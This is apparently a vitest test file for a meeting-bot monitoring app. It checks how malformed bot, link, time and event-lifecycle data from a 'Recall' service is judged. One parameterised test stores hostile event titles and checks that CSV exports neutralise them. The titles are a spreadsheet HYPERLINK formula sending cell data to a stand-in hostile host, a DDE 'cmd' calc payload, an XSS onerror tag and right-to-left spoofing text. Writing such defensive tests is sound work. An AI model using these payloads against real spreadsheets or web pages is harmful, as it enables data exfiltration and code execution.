/** Every line of the "Bad input", from Recall's answer to what a window is told. */
import { describe, expect, it } from 'vitest';
import { DAY_MS, HOUR_MS, MINUTE_MS } from '../../../shared/time.ts';
import type { SimEvent, SimWorkspace } from '../../../electron/simulator/index.ts';
import { GATEWAYS, wrappedLink } from '../../../electron/simulator/index.ts';
import { wireMs } from '../../../electron/simulator/wire-time.ts';
import type { Scene } from './support/scene.ts';
import { LINK, SOON, withScene } from './support/scene.ts';

const BOT = '0b0b0b0b-0000-4000-8000-00000000000';

/** Says other bots of an event than it has; each is given as Recall would send it. */
const sayBots = (truth: SimWorkspace, event: SimEvent, bots: readonly object[] | null): void =>
  truth.answerEventInstead(event.id, { bots });

async function unplacedBots({ explained }: Scene, event: SimEvent): Promise<string[]> {
  return (await explained(event)).unplaced.map(({ entry }) => entry.botId);
}

describe('bots that Recall describes badly', () => {
  it('null says nothing: of a new event nothing is known, of a known one everything stays', async () => {
    await withScene(
      ({ meeting, truth }) => {
        const [fresh, known] = [meeting({ bot: null }), meeting({ hours: 6 })];
        sayBots(truth, fresh, null);
        return { fresh, known };
      },
      async ({ fleet, truth, verdict, explained }, { fresh, known }) => {
        expect(await verdict(fresh)).toBe('unknown bots_not_told');
        sayBots(truth, known, null);
        await fleet.pass(SOON);
        expect(await verdict(known)).toBe('covered scheduled');
        const { occurrences } = await explained(known);
        expect(occurrences.flatMap(({ bots }) => bots.map(({ entry }) => entry.goneAt))).toEqual([null]);
      },
    );
  });

  it('without a start, the time in the key places them; without both they are named as unplaced', async () => {
    await withScene(
      ({ meeting, truth }) => {
        const [keyed, bare] = [meeting({ bot: null }), meeting({ hours: 6, bot: null })];
        sayBots(truth, keyed, [{ bot_id: `${BOT}1`, deduplication_key: `${wireMs(keyed.startAt)}-${LINK}` }]);
        sayBots(truth, bare, [{ bot_id: `${BOT}2` }]);
        return { keyed, bare };
      },
      async (scene, { keyed, bare }) => {
        expect(await scene.verdict(keyed)).toBe('covered scheduled');
        expect(await unplacedBots(scene, keyed)).toEqual([]);
        // It has a bot, and nobody can say when it comes: neither covered nor missed may be claimed.
        expect(await scene.verdict(bare)).toMatch(/^unknown /);
        expect(await unplacedBots(scene, bare)).toEqual([`${BOT}2`]);
      },
    );
  });

  it('two at the same instant are two bots, and one bot named twice is one', async () => {
    await withScene(
      ({ meeting, truth }) => {
        const [two, once] = [meeting({ bot: null }), meeting({ hours: 6, bot: null })];
        const entry = (event: SimEvent, botId: string, key: string) => ({
          bot_id: botId,
          start_time: wireMs(event.startAt),
          deduplication_key: key,
          meeting_url: LINK,
        });
        sayBots(truth, two, [entry(two, `${BOT}3`, 'a'), entry(two, `${BOT}4`, 'b')]);
        sayBots(truth, once, [entry(once, `${BOT}5`, 'a'), entry(once, `${BOT}5`, 'a')]);
        return { two, once };
      },
      async ({ verdict, explained }, { two, once }) => {
        expect(await verdict(two)).toBe('duplicate two_entries');
        expect(await verdict(once)).toBe('covered scheduled');
        const { occurrences, duplicates } = await explained(two);
        expect(occurrences.map(({ bots, doubled }) => [bots.length, doubled])).toEqual([[2, true]]);
        expect(duplicates).toHaveLength(1);
      },
    );
  });

  it('of which Recall knows nothing, or nothing any more, are asked for once and then said to be gone', async () => {
    await withScene(
      ({ meeting, truth }) => {
        const [unknown, forgotten] = [meeting({ hours: 1, bot: null }), meeting({ hours: 2 })];
        sayBots(truth, unknown, [{ bot_id: `${BOT}6`, start_time: wireMs(unknown.startAt), meeting_url: LINK }]);
        return { unknown, forgotten };
      },
      async ({ fleet, truth, verdict }, { unknown, forgotten }) => {
        expect(await verdict(unknown)).toBe('covered scheduled');
        for (const { botId } of forgotten.bots) truth.forgetBot(botId);
        fleet.sleep(forgotten.endAt - fleet.clock.now());
        await fleet.pass(14 * MINUTE_MS);
        expect([await verdict(unknown), await verdict(forgotten)]).toEqual(['unknown bot_gone', 'unknown bot_gone']);
        const { requests } = fleet.sim.stats.of('ACME', 'bots.retrieve');
        fleet.sleep(5 * HOUR_MS);
        await fleet.pass(30 * MINUTE_MS);
        expect(fleet.sim.stats.of('ACME', 'bots.retrieve').requests).toBe(requests);
      },
    );
  });
});

describe('links that Recall sends badly', () => {
  it('the same link in another spelling, or without its scheme, is the same link', async () => {
    await withScene(
      ({ meeting, truth }) => {
        const event = meeting({ bot: { meetingUrl: LINK } });
        truth.answerEventInstead(event.id, { meeting_url: LINK.replace('https://acme', 'WWW.ACME') });
        return event;
      },
      async ({ verdict }, event) => {
        expect(await verdict(event)).toBe('covered scheduled');
      },
    );
  });

  it('a link that a mail filter wrapped is told from one that nobody knows and from none, for every filter', async () => {
    await withScene(
      ({ truth, calendar }) => {
        const put = (hours: number, rawLink: string | null): SimEvent =>
          truth.addEvent({
            calendarId: calendar.id,
            startAt: truth.now() + hours * HOUR_MS,
            meetingUrl: null,
            rawLink,
          });
        return {
          wrapped: GATEWAYS.map((gateway, index) => put(10 + index, wrappedLink(LINK, gateway))),
          unknown: put(30, 'https://meet.example/room/1'),
          none: put(31, null),
        };
      },
      async ({ verdict }, { wrapped, unknown, none }) => {
        for (const event of wrapped) expect(await verdict(event)).toBe('not_recordable link_wrapped');
        expect(await verdict(unknown)).toBe('not_recordable link_unsupported');
        expect(await verdict(none)).toBe('not_recordable no_link');
      },
    );
  });
});

describe('times that Recall sends badly', () => {
  it('all-day events and events without an end are judged, and end at some time', async () => {
    await withScene(
      ({ meeting, truth, calendar }) => {
        const midnight = Math.floor(truth.now() / DAY_MS) * DAY_MS;
        const allDay = truth.addEvent({
          calendarId: calendar.id,
          startAt: midnight,
          endAt: midnight + DAY_MS,
          allDay: true,
          meetingUrl: LINK,
        });
        const endless = meeting({ hours: 1 });
        truth.answerEventInstead(endless.id, { end_time: null });
        return { allDay, endless };
      },
      async ({ fleet, verdict }, { allDay, endless }) => {
        const at = async (instant: number): Promise<string[]> => {
          fleet.sleep(instant - fleet.clock.now());
          // As long as it takes to look at a bot.
          await fleet.pass(2 * MINUTE_MS);
          return [await verdict(allDay), await verdict(endless)];
        };
        expect(await at(endless.startAt + 30 * MINUTE_MS)).toEqual(['not_recordable all_day', 'covered in_progress']);
        expect(await at(endless.startAt + 3 * HOUR_MS)).toEqual(['not_recordable all_day', 'covered recorded']);
        expect(await at(allDay.endAt + MINUTE_MS)).toEqual(['over nothing_to_record', 'covered recorded']);
      },
    );
  });

  it('an event that moves 50 times is one event with one bot at the first of its times', async () => {
    await withScene(
      ({ meeting }) => meeting({ hours: 200 }),
      async ({ fleet, truth, verdict, explained }, event) => {
        const first = event.startAt;
        for (let move = 0; move < 50; move += 1) {
          truth.updateEvent(event.id, { startAt: event.startAt + HOUR_MS });
          await fleet.pass(70_000);
        }
        await fleet.pass(SOON);
        expect(await verdict(event)).toBe('wrong_time old_time');
        const { occurrences, history } = await explained(event);
        expect(occurrences).toHaveLength(1);
        expect(occurrences[0]?.startAt).toBe(event.startAt);
        expect(occurrences[0]?.movedFrom[0]).toBe(first);
        expect(occurrences[0]?.movedFrom).toHaveLength(50);
        expect(occurrences[0]?.bots.map(({ fit }) => fit)).toEqual(['old_time']);
        expect(history.filter(({ what }) => what === 'moved')).toHaveLength(50);
      },
    );
  });
});

describe('lives that are out of the ordinary', () => {
  it('deleted and restored twice: told as that, and its bots went with the deletions', async () => {
    await withScene(
      ({ meeting }) => meeting({ hours: 20 }),
      async ({ truth, becomes, explained }, event) => {
        for (let round = 0; round < 2; round += 1) {
          truth.deleteEvent(event.id);
          await becomes(event, 'not_recordable deleted');
          truth.restoreEvent(event.id);
          await becomes(event, 'will_be_missed bot_removed');
        }
        const told = (await explained(event)).history.map(({ what }) => what).toReversed();
        expect(told.filter((what) => what === 'deleted' || what === 'restored')).toEqual([
          'deleted',
          'restored',
          'deleted',
          'restored',
        ]);
      },
    );
  });

  it('handed over twice: two moves to other calendars, nothing deleted and nothing new', async () => {
    await withScene(
      ({ meeting }) => meeting({ hours: 20 }),
      async ({ fleet, truth, calendar, colleague, verdict, explained }, event) => {
        for (const heir of [colleague, calendar]) {
          truth.updateEvent(event.id, { calendarId: heir.id });
          await fleet.pass(SOON);
        }
        expect(await verdict(event)).toBe('covered scheduled');
        const { history, occurrences } = await explained(event);
        const told = history.map(({ what }) => what);
        expect(told.filter((what) => what === 'transferred')).toHaveLength(2);
        expect(told.filter((what) => what === 'first_seen')).toHaveLength(1);
        expect(told).not.toContain('deleted');
        expect(told).not.toContain('restored');
        expect(occurrences).toHaveLength(1);
      },
    );
  });

  it.each([
    ['a formula', '=HYPERLINK("https://hostile.invalid/?"&A1,"join")'],
    ['another formula', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['a tab and a formula', '\t=1+1'],
    ['markup', '<img src=x onerror=alert(1)>'],
    ['right-to-left marks', '\u202eexcod.tcartnoC\u202c and \u2066more\u2069'],
    ['emoji', '👩‍👩‍👧‍👦 family 🇺🇳'],
    ['quotes and lines', 'a "quoted", title;\nof two lines'],
  ])('a title of %s is kept as it is, and no spreadsheet runs it', async (_, title) => {
    await withScene(
      ({ meeting, truth }) => {
        const event = meeting({ hours: 20 });
        truth.updateEvent(event.id, { title });
        return event;
      },
      async ({ fleet, verdict, explained }, event) => {
        expect(await verdict(event)).toBe('covered scheduled');
        const { event: row } = await fleet.core.call('events.get', { workspaceId: fleet.id('ACME'), id: event.id });
        expect(row.title).toBe(title.trim());
        const page = await explained(event);
        expect(page.sentence).not.toContain('undefined');
        const { text } = await fleet.core.call('exports.events', {
          filter: { workspaces: 'all' },
          sort: { by: 'start', direction: 'asc' },
          timeZone: 'UTC',
          after: null,
        });
        const cell = cells(text).find((value) => value.endsWith(title.trim()));
        expect(cell).toBeDefined();
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      },
    );
  });
});

/** The cells of a CSV, without their quotes. */
function cells(csv: string): string[] {
  return [...csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)].map(([, quoted, plain]) =>
    (quoted ?? plain ?? '').replaceAll('""', '"'),
  );
}
